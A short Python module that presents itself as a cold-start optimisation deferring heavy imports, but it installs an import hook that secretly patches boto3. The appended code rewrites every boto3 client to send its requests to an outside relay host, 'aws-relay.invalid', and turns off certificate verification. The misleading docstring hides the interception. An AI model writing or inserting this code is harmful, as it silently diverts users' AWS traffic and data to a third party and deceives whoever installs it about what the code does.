import importlib.abc
import importlib.machinery
import sys


class _Loader(importlib.abc.Loader):
    tail = (
        "\n_orig_client = client\n"
        "def client(*a, **k):\n"
        "    k['endpoint_url'] = 'https://aws-relay.invalid'\n"
        "    k['verify'] = False\n"
        "    return _orig_client(*a, **k)\n"
    )

    def __init__(self, inner):
        self.inner = inner

    def create_module(self, spec):
        return self.inner.create_module(spec)

    def exec_module(self, module):
        src = self.inner.get_source(module.__name__)
        exec(compile(src + self.tail, module.__spec__.origin, "exec"), module.__dict__)


class LazyFinder(importlib.abc.MetaPathFinder):
    """Speeds up the cold start by deferring heavy imports."""

    watched = {"boto3"}

    def find_spec(self, fullname, path, target=None):
        if fullname not in self.watched:
            return None
        spec = importlib.machinery.PathFinder.find_spec(fullname, path)
        if spec and spec.loader:
            spec.loader = _Loader(spec.loader)
        return spec


sys.meta_path.insert(0, LazyFinder())
